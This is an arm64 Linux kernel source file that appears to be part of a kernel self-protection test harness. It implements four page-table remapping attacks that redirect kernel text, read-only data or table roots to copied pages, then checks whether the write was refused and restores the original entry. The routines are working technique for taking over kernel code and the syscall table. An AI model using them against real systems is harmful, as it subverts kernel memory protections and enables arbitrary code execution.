// SPDX-License-Identifier: GPL-2.0-only
/*
 * Addresses of the kernel image mapped to other memory: an entry of the kernel's page tables that
 * leads there is changed, at each level. What it leads to instead is a copy, in which one word is
 * another; it is taken back at once.
 */
#include <linux/gfp.h>
#include <linux/irqflags.h>
#include <linux/mm.h>
#include <linux/string.h>
#include <linux/vmalloc.h>
#include <asm/memory.h>
#include <asm/sysreg.h>
#include <asm/tlbflush.h>

#include "attack.h"
#include "target.h"

#define LEVELS	5
#define ADDRESS GENMASK_ULL(47, PAGE_SHIFT)
#define VALID	1ull
#define TABLE	2ull /* at the last level: a page */
#define CONT	BIT_ULL(52)

/*
 * The entries that lead to an address, the root's first.
 * @levels:	that this CPU has
 * @last:	the one that maps it, a page or a block
 */
struct way {
	unsigned int levels, last;
	phys_addr_t at[LEVELS];
	u64 entry[LEVELS];
};

/* What an entry of this level covers is so many pages, as a power of two. */
static unsigned int order_of(const struct way *way, unsigned int level)
{
	return (PAGE_SHIFT - 3) * (way->levels - 1 - level);
}

static bool find_way(unsigned long va, struct way *way)
{
	phys_addr_t table = read_sysreg(ttbr1_el1) & ADDRESS;
	unsigned int bits = 64 - (read_sysreg(tcr_el1) >> 16) % 64; /* T1SZ */
	unsigned int i;

	va &= GENMASK_ULL(bits - 1, 0);
	way->levels = DIV_ROUND_UP(bits - PAGE_SHIFT, PAGE_SHIFT - 3);
	for (i = 0; i < way->levels; i++) {
		u64 number = (va >> (PAGE_SHIFT + order_of(way, i))) % PTRS_PER_PTE;

		way->last = i;
		way->at[i] = table + number * sizeof(u64);
		way->entry[i] = READ_ONCE(*(u64 *)__va(way->at[i]));
		if (!(way->entry[i] & VALID))
			return false;
		if (!(way->entry[i] & TABLE))
			break;
		table = way->entry[i] & ADDRESS;
	}
	return true;
}

/* Copies of what the entries lead to from @level on, each leading to the next. 0, or no memory. */
static u64 copy_from(const struct attempt *t, const struct way *way, unsigned int level)
{
	bool leaf = level == way->last;
	unsigned int order = leaf ? order_of(way, level) : 0;
	u64 to = leaf ? 0 : copy_from(t, way, level + 1);
	void *copy = (void *)__get_free_pages(GFP_KERNEL, order);
	unsigned long inside = (unsigned long)t->va % (PAGE_SIZE << order);

	if (!copy || (!leaf && !to))
		return 0;
	memcpy(copy, __va(way->entry[level] & ADDRESS), PAGE_SIZE << order);
	if (leaf)
		*(u32 *)(copy + inside) = t->wanted;
	else
		*(u64 *)(copy + offset_in_page(way->at[level + 1])) = to;
	return (way->entry[level] & ~(ADDRESS | CONT)) | __pa(copy);
}

static int write_entry(u64 *entry, u64 value)
{
	int err = target_write(entry, &value, sizeof(value));

	flush_tlb_all();
	return err;
}

/* The copies stay: a table that a CPU may still walk must not become anything else. */
static enum attack_outcome reroute(struct attempt *t, const struct way *way, unsigned int level)
{
	struct page *page = pfn_to_page(PHYS_PFN(way->at[level]));
	void *map = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	u64 to = copy_from(t, way, level);
	unsigned long flags;
	u32 seen;
	int err;

	if (!map || !to)
		return ATTACK_ERROR;
	map += offset_in_page(way->at[level]);
	local_irq_save(flags);
	err = write_entry(map, to);
	seen = READ_ONCE(*(u32 *)t->va);
	if (!err)
		err = write_entry(map, way->entry[level]);
	local_irq_restore(flags);
	if (err)
		attack_note(t, "the store faults: %d", err);
	attack_note(t, "the address reads %x", seen);
	return seen == t->wanted ? ATTACK_SUCCEEDED : ATTACK_REFUSED;
}

static enum attack_outcome text_page(struct attempt *t)
{
	struct way way;

	if (target_text(t) || !find_way((unsigned long)t->va, &way))
		return ATTACK_ERROR;
	return reroute(t, &way, way.last);
}

static enum attack_outcome text_table(struct attempt *t)
{
	struct way way;

	if (target_text(t) || !find_way((unsigned long)t->va, &way) || way.last < 2)
		return ATTACK_ERROR;
	return reroute(t, &way, way.last - 1);
}

static enum attack_outcome text_root(struct attempt *t)
{
	struct way way;

	if (target_text(t) || !find_way((unsigned long)t->va, &way) || !way.last)
		return ATTACK_ERROR;
	return reroute(t, &way, 0);
}

static enum attack_outcome rodata_page(struct attempt *t)
{
	struct way way;

	if (target_rodata(t) || !find_way((unsigned long)t->va, &way))
		return ATTACK_ERROR;
	return reroute(t, &way, way.last);
}

static const struct attack attacks[] = {
	{
		.name = "remap-text",
		.title = "map an address of kernel text to a page of one's own",
		.gives = "any code in the place of the kernel's",
		.asset = "page tables of the kernel image",
		.run = text_page,
		.look = target_look,
	},
	{
		.name = "remap-rodata",
		.title = "map an address of read-only data to a page of one's own",
		.gives = "the table of system calls, and all else that is constant",
		.asset = "page tables of the kernel image",
		.run = rodata_page,
		.look = target_look,
	},
	{
		.name = "remap-table",
		.title = "have the table above kernel text lead to a table of one's own",
		.gives = "any code in the place of the kernel's",
		.asset = "page tables of the kernel image",
		.run = text_table,
		.look = target_look,
	},
	{
		.name = "remap-root",
		.title = "have the root lead to tables of one's own",
		.gives = "any mapping of the kernel",
		.asset = "roots of kernel page tables",
		.run = text_root,
		.look = target_look,
	},
};

const struct attack_table arm_remap_table = { attacks, ARRAY_SIZE(attacks) };
